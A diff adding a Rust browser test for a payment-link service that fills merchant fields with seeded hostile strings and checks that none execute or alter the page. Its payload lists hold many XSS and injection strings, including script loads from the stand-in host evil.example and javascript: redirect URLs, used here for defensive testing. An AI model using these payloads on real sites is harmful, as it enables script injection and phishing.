@@ -1,0 +1,380 @@
+//! What merchants and strangers may write, as somebody writes it who wants to run scripts, mislead readers, or break the
+//! page. It is drawn by a seed, goes through page, receipt and title in a real browser, and nothing of it runs.
+
+use crate::{
+    proxy::Proxy,
+    scenarios::{Told, amounts, holds, with},
+    stage::Stage,
+    wallet::{CHAIN, Wallet},
+};
+use serde_json::{Value, json};
+use std::collections::BTreeMap;
+
+/// A module that has not begun by then does not run on this page.
+const BEGINS_WITHIN: std::time::Duration = std::time::Duration::from_secs(5);
+
+/// Links that are made with hostile texts, each with four of them.
+const LINKS: usize = 72;
+
+/// Of these, those that are paid in the browser, so that its modules draw the end; the others are paid without it.
+const PAID_HERE: usize = 8;
+
+/// Wallets that announce themselves, each with three texts, errors that one answers, and accounts that it names.
+const WALLETS: usize = 60;
+const ERRORS: usize = 60;
+const ACCOUNTS: usize = 20;
+
+/// Links on which the page without escaping is tried.
+const UNESCAPED: usize = 8;
+
+/// What texts are made of.
+const PIECES: [&str; 48] = [
+    "<script>alert(1)</script>",
+    "</script><script>window.ran=1</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<img src=x onerror=window.ran=1>",
+    "<img src=x onerror=alert(1)//",
+    "<svg/onload=window.ran=1>",
+    "<svg><script>window.ran=1</script></svg>",
+    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
+    "<iframe src=javascript:parent.ran=1></iframe>",
+    "<details open ontoggle=window.ran=1>",
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<form action=//evil.example><input name=x autofocus onfocus=window.ran=1>",
+    "<a href=javascript:window.ran=1>Pay here</a>",
+    "<math><mi xlink:href=javascript:window.ran=1>x",
+    "<template><script>window.ran=1</script></template>",
+    "</title><script>window.ran=1</script>",
+    "</textarea><script>window.ran=1</script>",
+    "</bdi></dd></dl></section><h1>Paid</h1>",
+    "\" onmouseover=\"window.ran=1\" x=\"",
+    "' onfocus='window.ran=1' autofocus x='",
+    "` onload=`window.ran=1`",
+    "\"><img src=x onerror=window.ran=1>",
+    "'><svg onload=window.ran=1>",
+    "\" style=\"position:fixed;inset:0",
+    "javascript:window.ran=1",
+    "JaVaScRiPt:window.ran=1",
+    "java\tscript:window.ran=1",
+    "data:text/html,<script>opener.ran=1</script>",
+    "vbscript:msgbox(1)",
+    "https://shop.example@evil.example/",
+    "//evil.example/%2e%2e",
+    "{{constructor.constructor('window.ran=1')()}}",
+    "${window.ran=1}",
+    "<%= window.ran=1 %>",
+    "]]><!--",
+    "--><script>window.ran=1</script>",
+    "&lt;script&gt;window.ran=1&lt;/script&gt;",
+    "&#60;script&#62;window.ran=1",
+    "\\u003cscript\\u003ewindow.ran=1",
+    "\u{202e}moc.elpmaxe\u{202c}",
+    "\u{2066}\u{2067}abc\u{2069}\u{200f}",
+    "\u{0}\u{7}\u{1b}[31m",
+    "\u{200b}\u{feff}\u{ad}\u{2028}",
+    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪💸",
+    "Z̸̡͇a̷l̴g̵o̷ שלום مرحبا 你好",
+];
+
+/// Forms of addresses, with a place for a text as it is and for one that is encoded.
+const ADDRESSES: [&str; 20] = [
+    "https://shop.example/?q={encoded}",
+    "https://shop.example/#{encoded}",
+    "https://shop.example/{encoded}/",
+    "HTTPS://Shop.Example/?x=1&y={encoded}",
+    "http://[::1]:8080/{encoded}",
+    "https://bücher.example/{encoded}",
+    "https://раypal.example/?to={encoded}",
+    "https://xn--bcher-kva.example/%22%3E%3Cscript%3E",
+    "https://shop.example/?next=javascript:window.ran=1",
+    "https://javascript.example/;alert(1)",
+    "https://shop.example/?q={plain}",
+    "https://{plain}.example/",
+    "https://user:{plain}@shop.example/",
+    "javascript:window.ran=1//{plain}",
+    "data:text/html,{plain}",
+    "//evil.example/{plain}",
+    " javascript:window.ran=1",
+    "java\nscript:window.ran=1",
+    "https:\\\\evil.example\\{plain}",
+    "{plain}",
+];
+
+/// Numbers that follow from a seed (splitmix64).
+pub struct Dice(u64);
+
+impl Dice {
+    pub fn new(seed: u64) -> Self {
+        Self(seed)
+    }
+
+    fn next(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let mut drawn = self.0;
+        drawn = (drawn ^ (drawn >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        drawn = (drawn ^ (drawn >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+        drawn ^ (drawn >> 31)
+    }
+
+    fn below(&mut self, end: usize) -> usize {
+        usize::try_from(self.next() % u64::try_from(end).expect("small")).expect("small")
+    }
+
+    /// An address of nobody.
+    pub fn wallet(&mut self) -> String {
+        let end = self.next() >> 32;
+        format!("0x{:016x}{:016x}{end:08x}", self.next(), self.next())
+    }
+
+    /// A text of a few pieces; one in eight is long, and one in sixteen longer than any is allowed.
+    pub fn text(&mut self) -> String {
+        let mut text = String::new();
+        for _ in 0..=self.below(3) {
+            text.push_str(PIECES[self.below(PIECES.len())]);
+            if self.below(2) == 0 {
+                text.push_str(["", " ", "x", "\u{a0}", "."][self.below(5)]);
+            }
+        }
+        match self.below(16) {
+            0 => text.push_str(&"\"><b>".repeat(200)),
+            1 | 2 => {
+                let room = 255_usize.saturating_sub(text.chars().count());
+                text.push_str(&"W".repeat(room));
+            }
+            _ => {}
+        }
+        text
+    }
+
+    fn address(&mut self) -> String {
+        let form = ADDRESSES[self.below(ADDRESSES.len())];
+        let text = self.text();
+        let encoded: String = text.bytes().take(300).map(|byte| format!("%{byte:02X}")).collect();
+        form.replace("{encoded}", &encoded).replace("{plain}", &text)
+    }
+}
+
+/// A link with hostile texts, without those that were refused.
+struct Link {
+    token: String,
+    is_payout: bool,
+    /// Its texts, by the member of the body.
+    texts: BTreeMap<&'static str, String>,
+}
+
+/// What stands where a hostile text was refused, so that all links have the same parts.
+const HARMLESS: [(&str, &str); 5] = [
+    ("reference", "INV-1"),
+    ("redirectUrl", "https://shop.example/thanks"),
+    ("redirectLabel", "Back to the shop"),
+    ("payerIdentifier", "customer-77"),
+    ("recipientIdentifier", "supplier-77"),
+];
+
+fn harmless(is_payout: bool) -> BTreeMap<&'static str, String> {
+    let is_other = |name: &str| {
+        name == if is_payout {
+            "payerIdentifier"
+        } else {
+            "recipientIdentifier"
+        }
+    };
+    let texts = HARMLESS.iter().filter(|(name, _)| !is_other(name));
+    texts.map(|(name, text)| (*name, (*text).to_owned())).collect()
+}
+
+/// Makes a link with these texts; those that the service refuses are put aside, and counted.
+async fn made(
+    stage: &Stage,
+    is_payout: bool,
+    mut texts: BTreeMap<&'static str, String>,
+) -> Result<(Link, usize), String> {
+    let mut refused = 0;
+    for _ in 0..=texts.len() {
+        let (path, body) = match is_payout {
+            true => {
+                let terms = json!({
+                    "recipient": stage.accounts[5], "creatorWalletAddress": stage.wallet.account, "network": "sepolia",
+                    "currency": "FAU-sepolia", "amount": "9",
+                });
+                ("/v2/secure-payments/payouts", terms)
+            }
+            false => ("/v2/secure-payments", amounts(&["9"])),
+        };
+        let (status, answer) = stage.ask(path, &with(body, json!(texts))).await;
+        if let Some(token) = answer["token"].as_str() {
+            let token = token.to_owned();
+            let link = Link {
+                token,
+                is_payout,
+                texts,
+            };
+            return Ok((link, refused));
+        }
+        holds(status == 400, format!("{status} {answer}"))?;
+        let said = answer.to_string();
+        // A label is named by refusals of its address too.
+        let named = |name: &str| match name {
+            "redirectUrl" => said.contains("redirectUrl must"),
+            _ => said.contains(&format!("\"{name}\"")),
+        };
+        let wrong: Vec<&str> = texts.keys().copied().filter(|name| named(name)).collect();
+        let kinds = harmless(is_payout);
+        let before = refused;
+        for name in wrong {
+            if texts[name] != kinds[name] {
+                texts.insert(name, kinds[name].clone());
+                refused += 1;
+            }
+        }
+        holds(refused > before, format!("{answer} names nothing of {texts:?}"))?;
+    }
+    Err("a link without hostile texts is refused".to_owned())
+}
+
+/// Whether a page is made as a harmless one is, and nothing of its texts ran or was stopped from running.
+pub fn sane(seen: &Value, plain: &Value) -> Told {
+    holds(seen["ran"] == 0, "a script ran")?;
+    holds(seen["reports"] == json!([]), format!("stopped: {}", seen["reports"]))?;
+    holds(
+        seen["title"] == plain["title"],
+        format!("the title is {}", seen["title"]),
+    )?;
+    let leads = seen["leads"].as_array().into_iter().flatten().filter_map(Value::as_str);
+    let odd: Vec<&str> = leads
+        .filter(|to| {
+            !["http://", "https://", "data:"]
+                .iter()
+                .any(|scheme| to.starts_with(scheme))
+        })
+        .collect();
+    holds(odd.is_empty(), format!("leads to {odd:?}"))?;
+    holds(
+        seen["made"] == plain["made"],
+        format!("other elements: {} {}", seen["made"], plain["made"]),
+    )
+}
+
+/// Whether the texts of a link stand where they belong, letter by letter, and nowhere else.
+fn shows(seen: &Value, link: &Link, is_done: bool) -> Told {
+    let texts = seen["texts"].as_array().expect("texts");
+    let reference = json!(link.texts["reference"]);
+    holds(
+        texts.contains(&reference),
+        format!("{reference} is not shown: {texts:?}"),
+    )?;
+    let source = seen["source"].as_str().expect("a source");
+    for name in ["payerIdentifier", "recipientIdentifier"] {
+        if let Some(text) = link.texts.get(name) {
+            holds(!source.contains(text.as_str()), format!("{name} is shown"))?;
+        }
+    }
+    if is_done {
+        let (way, label) = (&seen["way"], json!(link.texts["redirectLabel"]));
+        holds(way[0] == json!(link.texts["redirectUrl"]), format!("leads to {way}"))?;
+        holds(way[1] == label, format!("is labelled {way}"))?;
+        let host = way[3].as_str().expect("a host");
+        holds(
+            way[2] == json!(format!("Leads to {host}")),
+            format!("names another host: {way}"),
+        )?;
+    }
+    Ok(())
+}
+
+/// What a harmless link is made of, on each page.
+type Plain = BTreeMap<(bool, &'static str), Value>;
+
+/// Opens a page of a link.
+pub async fn look(stage: &Stage, token: &str, page: &str) -> Value {
+    let path = page.trim_start_matches("paid");
+    stage.browser.open(&stage.at(&format!("/pay/{token}{path}"))).await;
+    // What stands there without scripts is replaced once the module has begun, which takes its time on a busy machine.
+    let begun = std::time::Instant::now();
+    let has_begun =
+        "return !document.querySelector('script[type=module]') || !document.querySelector('section noscript');";
+    while stage.js(has_begun).await != json!(true) && begun.elapsed() < BEGINS_WITHIN {
+        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
+    }
+    stage.seen().await
+}
+
+/// Pays a link in the page.
+async fn pay_here(stage: &mut Stage, link: &Link) -> Told {
+    stage.wallet = Wallet::new(&stage.accounts[2]);
+    stage.wallet.atomic = Some("supported");
+    stage.connect(&link.token, "options").await?;
+    stage.press("Pay 9").await?;
+    stage.until("success").await
+}
+
+pub async fn texts(stage: &mut Stage) -> Told {
+    let mut dice = Dice::new(13);
+    let mut plain = Plain::new();
+    let mut links = Vec::new();
+    let mut refused = 0;
+    for is_payout in [false, true] {
+        links.push(made(stage, is_payout, harmless(is_payout)).await?.0);
+    }
+    for index in 0..LINKS {
+        let is_payout = index % 3 == 2;
+        let mut texts = harmless(is_payout);
+        for (name, text) in &mut texts {
+            *text = match *name {
+                "redirectUrl" => dice.address(),
+                // What nobody may see has to be told from what stands there anyway.
+                "payerIdentifier" | "recipientIdentifier" => format!("{} zq{index}", dice.text()),
+                _ => dice.text(),
+            };
+        }
+        let (link, further) = made(stage, is_payout, texts).await?;
+        refused += further;
+        links.push(link);
+    }
+    let mut check = |link: &Link, page: &'static str, seen: Value| -> Told {
+        let key = (link.is_payout, page);
+        let wrong = |error: String| format!("{:?} on {page}: {error}", link.texts);
+        match plain.get(&key) {
+            None => {
+                let end = sane(&seen, &seen);
+                plain.insert(key, seen);
+                end.map_err(wrong)
+            }
+            Some(plain) => sane(&seen, plain)
+                .and_then(|()| shows(&seen, link, page.starts_with("paid") && !page.contains("receipt")))
+                .map_err(wrong),
+        }
+    };
+    for link in &links {
+        for page in ["", "/receipt"] {
+            let seen = look(stage, &link.token, page).await;
+            check(link, page, seen)?;
+        }
+    }
+    let (here, elsewhere) = links.split_at(PAID_HERE);
+    for link in here {
+        pay_here(stage, link).await?;
+        let seen = stage.seen().await;
+        check(link, "paid here", seen)?;
+    }
+    for link in elsewhere {
+        stage.settle(&link.token).await;
+    }
+    let tokens: Vec<String> = links.iter().map(|link| link.token.clone()).collect();
+    stage.until_paid(&tokens).await?;
+    for link in &links {
+        for page in ["paid", "paid/receipt"] {
+            let seen = look(stage, &link.token, page).await;
+            check(link, page, seen)?;
+        }
+    }
+    println!(
+        "{} hostile texts of merchants, {refused} more refused by the service: 0 scripts ran, 0 were stopped, 0 elements more",
+        LINKS * 4 - refused
+    );
+    holds(refused < LINKS * 3, "most texts were refused")
+}
+
